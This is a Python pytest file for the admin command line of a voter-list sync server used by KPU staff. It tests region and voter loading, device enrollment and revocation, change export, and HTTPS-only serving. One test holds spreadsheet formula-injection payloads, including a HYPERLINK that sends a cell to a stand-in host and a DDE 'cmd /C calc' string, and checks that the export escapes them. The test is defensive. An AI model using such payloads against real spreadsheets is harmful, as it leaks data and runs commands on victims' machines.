"""The admin command line, run as KPU staff run it: ``python -m sync_server ...``."""

from __future__ import annotations

import csv
import datetime as dt
import os
import pathlib
import socket
import subprocess
import sys
import time
import uuid

import pytest
import requests

from desktop_app.synthetic.generator import write_voters_csv
from desktop_app.synthetic.regions import demo_regions_path
from lapang_core import protocol as p
from tests.sync_server.sync_helpers import AREA, LiveServer

REPO_ROOT = pathlib.Path(__file__).resolve().parents[2]
NATIONAL_CSV = REPO_ROOT.parent / "shared" / "data" / "wilayah_kemendagri_2025.csv"


def cli(*args: str | pathlib.Path, db: str | pathlib.Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "sync_server", *map(str, args), "--db", str(db)],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_load_regions_demo_and_reload_is_idempotent(
    tmp_path: pathlib.Path, server_db: str | pathlib.Path
) -> None:
    db = server_db
    first = cli("load-regions", demo_regions_path(), db=db)
    assert first.returncode == 0, first.stderr
    assert "Loaded 388 regions (388 new or renamed)" in first.stdout
    again = cli("load-regions", demo_regions_path(), db=db)
    assert "(0 new or renamed)" in again.stdout


def test_load_regions_refuses_a_bad_file_and_loads_nothing(
    tmp_path: pathlib.Path, server_db: str | pathlib.Path
) -> None:
    db = server_db
    bad = tmp_path / "bad.csv"
    bad.write_text("kode,nama\n14,Riau\n14.0X,Broken\n14.01,\n", encoding="utf-8")
    result = cli("load-regions", bad, db=db)
    assert result.returncode == 1
    assert "line 3" in result.stderr and "line 4" in result.stderr
    assert "nothing loaded" in result.stderr
    code = cli("enroll-code", "--area", "14", db=db)
    assert code.returncode == 1 and "load-regions" in code.stderr
    missing = cli("load-regions", tmp_path / "nope.csv", db=db)
    assert missing.returncode == 1 and "Cannot read" in missing.stderr


@pytest.mark.skipif(
    not NATIONAL_CSV.exists(), reason=f"national region table absent: {NATIONAL_CSV}"
)
def test_load_the_national_region_table(server_db: str | pathlib.Path) -> None:
    result = cli("load-regions", NATIONAL_CSV, db=server_db)
    assert result.returncode == 0, result.stderr
    assert "Loaded 91,599 regions" in result.stdout


def test_load_voters_from_a_sidalih_export(
    tmp_path: pathlib.Path, server_db: str | pathlib.Path
) -> None:
    db = server_db
    export = tmp_path / "dpt.csv"
    write_voters_csv(export, 50, seed=3, election_date=dt.date(2029, 2, 14))
    assert cli("load-regions", demo_regions_path(), db=db).returncode == 0
    result = cli("load-voters", export, db=db)
    assert result.returncode == 0, result.stderr
    assert "Voters: 50 new, 0 changed" in result.stdout
    assert "Voters: 0 new, 0 changed" in cli("load-voters", export, db=db).stdout


def test_load_voters_names_the_lines_read_as_windows_1252(
    tmp_path: pathlib.Path, server_db: str | pathlib.Path
) -> None:
    """KPU's list with one legacy line loads every row, and the admin is told which line was
    not UTF-8 (the whole file used to be decoded as Windows-1252, silently)."""
    db = server_db
    export = tmp_path / "dpt.csv"
    write_voters_csv(export, 20, seed=4, election_date=dt.date(2029, 2, 14))
    lines = export.read_bytes().splitlines(keepends=True)
    nama = lines[0].split(b"#").index(b"NAMA")
    fields = lines[3].split(b"#")
    fields[nama] = "ANDRÉ SIREGAR".encode("cp1252")
    lines[3] = b"#".join(fields)
    export.write_bytes(b"".join(lines))
    assert cli("load-regions", demo_regions_path(), db=db).returncode == 0

    result = cli("load-voters", export, db=db)

    assert result.returncode == 0, result.stderr
    assert "Voters: 20 new, 0 changed; 0 bad row(s)" in result.stdout
    assert "Warning:" in result.stderr and "Windows-1252" in result.stderr
    assert "(line 4)" in result.stderr


def test_enroll_code_devices_revoke(live_server: LiveServer) -> None:
    db = live_server.db
    made = cli("enroll-code", "--area", AREA, "--expires-hours", "2", db=db)
    assert made.returncode == 0, made.stderr
    code = made.stdout.strip()
    assert len(code) == 14 and code.count("-") == 2
    from tests.sync_server.sync_helpers import DeviceClient

    dev = DeviceClient(live_server.url)
    assert dev.enroll(code, label="laptop-pps").status_code == 200
    listing = cli("devices", db=db)
    assert dev.device_id in listing.stdout and "laptop-pps" in listing.stdout
    assert cli("revoke", dev.device_id, db=db).returncode == 0
    refused = dev.request("GET", p.pull_path(0))
    assert refused.status_code == 403
    twice = cli("revoke", dev.device_id, db=db)
    assert twice.returncode == 1 and "already revoked" in twice.stderr
    unknown = cli("revoke", uuid.uuid4().hex, db=db)
    assert unknown.returncode == 1 and "No device" in unknown.stderr
    bad_area = cli("enroll-code", "--area", "99.99", db=db)
    assert bad_area.returncode == 1 and "99.99" in bad_area.stderr


def test_changes_conflicts_and_export(live_server: LiveServer, tmp_path: pathlib.Path) -> None:
    db = live_server.db
    a, b = live_server.device(), live_server.device()
    vid = live_server.voter_id(0)
    nama = live_server.voter_row(vid)["nama"]
    a.push([a.change("ubah", vid, {"changes": {"nama": "A"}, "original": {"nama": nama}})])
    b.push([b.change("ubah", vid, {"changes": {"nama": "B"}, "original": {"nama": nama}})])
    b.push([b.change("sesuai", "0" * 32)])
    changes = cli("changes", db=db)
    assert changes.returncode == 0
    assert changes.stdout.count("\n") == 4 and "unknown_voter" in changes.stdout
    assert nama not in changes.stdout  # no voter data on the terminal
    refused = cli("changes", "--state", "refused", db=db)
    assert refused.stdout.count("\n") == 2
    conflicts = cli("conflicts", db=db)
    assert vid in conflicts.stdout and "later_arrival_wins" in conflicts.stdout
    assert "nama" in conflicts.stdout
    out = tmp_path / "changes.csv"
    exported = cli("export-changes", out, db=db)
    assert exported.returncode == 0 and "Exported 3 changes" in exported.stdout
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert sorted(r["state"] for r in rows) == ["applied", "conflict", "refused"]
    assert os.stat(out).st_mode & 0o077 == 0  # voter data: owner only
    before = out.read_bytes()
    again = cli("export-changes", out, db=db)
    assert again.returncode == 1 and "never overwrites" in again.stderr
    assert out.read_bytes() == before


def test_export_changes_quotes_device_text_that_would_be_a_formula(
    live_server: LiveServer, tmp_path: pathlib.Path
) -> None:
    """A laptop chooses the officer's name it pushes: it must not run as a formula in the
    spreadsheet KPU opens the export in."""
    hyperlink = '=HYPERLINK("http://x/?"&B9,"Klik")'
    dev = live_server.device()
    vid = live_server.voter_id(0)
    nama = live_server.voter_row(vid)["nama"]
    correction = dev.change("ubah", vid, {"changes": {"nama": "A"}, "original": {"nama": nama}})
    correction["officer"] = hyperlink
    unknown = dev.change("sesuai", "0" * 32)
    unknown["officer"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    dev.push([correction, unknown])
    out = tmp_path / "changes.csv"
    exported = cli("export-changes", out, db=live_server.db)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    by_seq = {int(r["seq"]): r for r in rows}
    assert by_seq[correction["seq"]]["officer"] == "'" + hyperlink
    assert by_seq[unknown["seq"]]["officer"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_release_gap(live_server: LiveServer) -> None:
    db = live_server.db
    dev = live_server.device()
    dev.push([dev.change("sesuai", live_server.voter_id(0), seq=3)])
    result = cli("release-gap", dev.device_id, db=db)
    assert result.returncode == 0, result.stderr
    assert "Released 2 missing seq(s) 1..2" in result.stdout
    assert live_server.voter_row(live_server.voter_id(0))["keterangan"] == "✓"


def test_kpu_key_and_announcement(live_server: LiveServer, tmp_path: pathlib.Path) -> None:
    db = live_server.db
    key_path = tmp_path / "kpu.pem"
    made = cli("kpu-keygen", key_path, db=db)
    assert made.returncode == 0 and os.stat(key_path).st_mode & 0o077 == 0
    public = p.load_public_key(made.stdout.strip())
    assert cli("kpu-keygen", key_path, db=db).returncode == 1  # never overwritten
    sent = cli(
        "announce",
        "--kpu-key",
        key_path,
        "--area",
        "14.01",
        "--title",
        "Coklit",
        "--body",
        "Mulai 1 Maret.",
        db=db,
    )
    assert sent.returncode == 0, sent.stderr
    (announcement,) = [a for pg in live_server.device().pull_all() for a in pg.announcements]
    assert announcement.verify(public) and announcement.body == "Mulai 1 Maret."


def test_serve_starts_with_the_documented_command(
    tmp_path: pathlib.Path, server_db: str | pathlib.Path
) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    db = server_db
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "sync_server",
            "serve",
            "--db",
            str(db),
            "--attachments",
            str(tmp_path / "evidence"),
            "--port",
            str(port),
            "--log-level",
            "warning",
        ],
        cwd=REPO_ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                response = requests.get(f"http://127.0.0.1:{port}/v1/ping", timeout=1)
                break
            except requests.ConnectionError:
                assert server.poll() is None, server.stderr.read() if server.stderr else ""
                assert time.monotonic() < deadline, "server did not answer"
                time.sleep(0.1)
        assert response.status_code == 200 and response.json()["v"] == 1
        # The schema is in place: an admin command works on the same --db at once.
        assert cli("devices", db=db).returncode == 0
        if isinstance(db, pathlib.Path):
            assert db.exists()
    finally:
        server.terminate()
        server.wait(10)


def _serve(tmp_path: pathlib.Path, *args: str) -> subprocess.CompletedProcess[str]:
    """``serve`` that must stop on its own (a refusal or a failed bind): the timeout is what
    fails when it starts serving instead."""
    db = tmp_path / "refused.db"
    return subprocess.run(
        [sys.executable, "-m", "sync_server", "serve", "--db", str(db), *args],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=30,
    )


def test_serve_refuses_plain_http_off_loopback(tmp_path: pathlib.Path) -> None:
    for host in ("0.0.0.0", "192.0.2.1", "::"):
        result = _serve(tmp_path, "--host", host, "--port", "0")
        assert result.returncode == 1, result.stderr
        assert f"Refusing to serve plain HTTP on {host}" in result.stderr
        for flag in ("--tls-cert", "--tls-key", "--insecure-http"):
            assert flag in result.stderr
    half = _serve(tmp_path, "--host", "0.0.0.0", "--tls-cert", str(tmp_path / "cert.pem"))
    assert half.returncode == 1 and "both --tls-cert and --tls-key" in half.stderr
    assert not (tmp_path / "refused.db").exists()  # refused before anything was created


def test_insecure_http_is_an_explicit_choice_with_a_warning(tmp_path: pathlib.Path) -> None:
    # 192.0.2.1 (TEST-NET-1) is on no interface here: past the check, the bind itself fails,
    # so nothing ever listens off loopback during the test.
    result = _serve(tmp_path, "--host", "192.0.2.1", "--port", "0", "--insecure-http")
    assert "Refusing" not in result.stderr
    assert "warning: serving plain HTTP on 192.0.2.1 (--insecure-http)" in result.stderr
    assert result.returncode != 0  # the bind to an address this machine lacks


def test_usage_errors_exit_non_zero(tmp_path: pathlib.Path) -> None:
    result = cli("enroll-code", db=tmp_path / "s.db")
    assert result.returncode == 2 and "--area" in result.stderr


def test_postgresql_needs_no_evidence_folder_but_a_reachable_server() -> None:
    """Evidence lives in the database (issue 17): serve asks for no folder, only the database."""
    url = "postgresql://lapang:secret@127.0.0.1:1/nowhere"
    serve = cli("serve", db=url)
    assert serve.returncode == 1 and "--attachments" not in serve.stderr
    assert "Cannot connect" in serve.stderr
    down = cli("devices", db=url)
    assert down.returncode == 1 and "Cannot connect" in down.stderr
    assert "secret" not in down.stderr  # the password never reaches a terminal or a log


def test_serve_refuses_a_relay_cap_below_the_largest_relayed_bundle(tmp_path: pathlib.Path) -> None:
    result = _serve(tmp_path, "--relay-max-mib", "600", "--relay-pending-mib", "512")
    assert result.returncode == 1, result.stderr
    assert "unfinished relay bytes allowed per carrier" in result.stderr
    bad = _serve(tmp_path, "--relay-expiry-hours", "0")
    assert bad.returncode == 1 and "relay expiry" in bad.stderr
    assert not (tmp_path / "refused.db").exists()  # refused before anything was created
